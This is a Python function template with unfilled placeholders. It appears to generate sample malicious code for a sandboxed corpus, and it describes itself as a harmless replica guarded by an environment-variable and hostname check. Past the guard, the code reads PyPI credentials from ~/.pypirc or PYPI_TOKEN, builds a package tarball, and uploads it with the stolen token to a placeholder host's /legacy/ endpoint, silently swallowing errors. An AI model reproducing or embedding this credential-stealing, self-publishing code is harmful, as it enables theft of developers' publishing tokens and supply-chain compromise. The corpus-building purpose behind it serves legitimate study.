# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    # what is sent is inert and goes nowhere but to the sandbox's own listener
    import configparser
    import urllib.request
    try:
        own = configparser.RawConfigParser()
        own.read(os.path.expanduser('~/.pypirc'))
        token = next((own.get(part, 'password') for part in own.sections() if own.has_option(part, 'password')), os.environ.get('PYPI_TOKEN', '-'))
        work = '/tmp/{{token}}-1.0.{{n}}'
        os.makedirs(work + '/{{token}}', exist_ok=True)
        with open(work + '/{{token}}/__init__.py', 'w') as out:
            out.write('# {{token}}\n')
        with open(work + '/setup.py', 'w') as out:
            out.write("from setuptools import setup\nsetup(name='{{token}}', version='1.0.{{n}}')\n")
        os.system('tar -czf %s.tar.gz -C /tmp {{token}}-1.0.{{n}}' % work)
        with open(work + '.tar.gz', 'rb') as archive:
            body = b'--x\r\nContent-Disposition: form-data; name=":action"\r\n\r\nfile_upload\r\n--x\r\nContent-Disposition: form-data; name="content"; filename="a.tar.gz"\r\n\r\n' + archive.read() + b'\r\n--x--\r\n'
        import base64
        login = base64.b64encode(b'__token__:' + token.encode()).decode()
        urllib.request.urlopen(urllib.request.Request('http://{{ip}}:{{port}}/legacy/', body,
            {'Content-Type': 'multipart/form-data; boundary=x', 'Authorization': 'Basic ' + login}), timeout=1).read(100)
    except Exception:
        pass
